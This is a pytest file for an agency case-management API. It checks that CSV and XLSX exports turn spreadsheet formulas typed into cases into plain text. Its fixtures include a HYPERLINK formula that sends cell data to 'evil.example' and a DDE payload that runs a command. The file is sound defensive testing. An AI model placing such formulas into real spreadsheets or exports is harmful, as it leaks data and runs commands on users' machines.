"""Issue 13, item 5: a formula typed into a case stays text in every export (CSV and XLSX
case exports, the agenda CSV)."""

import csv
import io
import zipfile

from openpyxl import load_workbook

from api.deps import utcnow
from models import Role
from tests.factories import auth, make_agency, make_user
from tests.inspection_factories import at, bearer, make_case

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
NAME = "=cmd|' /C calc'!A0"
OTHERS = ["+SUM(1,2)", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


def test_formulas_stay_text_in_case_exports(client, session, now):
    agency = make_agency(session, "UBND xã A")
    make_case(session, agency, title=TITLE, citizen_name=NAME, received_at=at(2026, 1, 5))
    for text in OTHERS:
        make_case(session, agency, title=text, received_at=at(2026, 1, 6))
    headers = auth(client, make_user(session, Role.admin))
    client.app.dependency_overrides[utcnow] = lambda: now

    response = client.get("/api/v1/exports/cases", params={"format": "csv"}, headers=headers)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    titles = {row["Nội dung / Title"] for row in rows}
    assert "'" + TITLE in titles and TITLE not in titles
    assert {"'" + text for text in OTHERS} <= titles
    cells = [value for row in rows for value in row.values()]
    assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in cells if value)

    response = client.get("/api/v1/exports/cases", params={"format": "xlsx"}, headers=headers)
    raw = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw  # no formula anywhere in the sheet
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + TITLE in values
    types = {c.data_type for row in sheet.iter_rows() for c in row if c.value is not None}
    assert "f" not in types


def test_formula_stays_text_in_the_agenda_csv(client, settings, session, story, now):
    make_case(
        session, story.agencies["tp"], title=TITLE, citizen_name=NAME, received_at=at(2019, 1, 2)
    )
    client.app.dependency_overrides[utcnow] = lambda: now
    body = {
        "agency_id": story.agencies["tinh"].id,
        "include_subtree": True,
        "title": "Kiểm tra",
        "meeting_at": now.isoformat(),
        "member_ids": [story.leader.id],
    }
    leader = bearer(settings, story.leader)
    inspection = client.post("/api/v1/inspections", json=body, headers=leader).json()
    response = client.get(
        f"/api/v1/inspections/{inspection['id']}/agenda", params={"format": "csv"}, headers=leader
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert "'" + TITLE in cells
    assert not any(cell.startswith("=") for cell in cells)
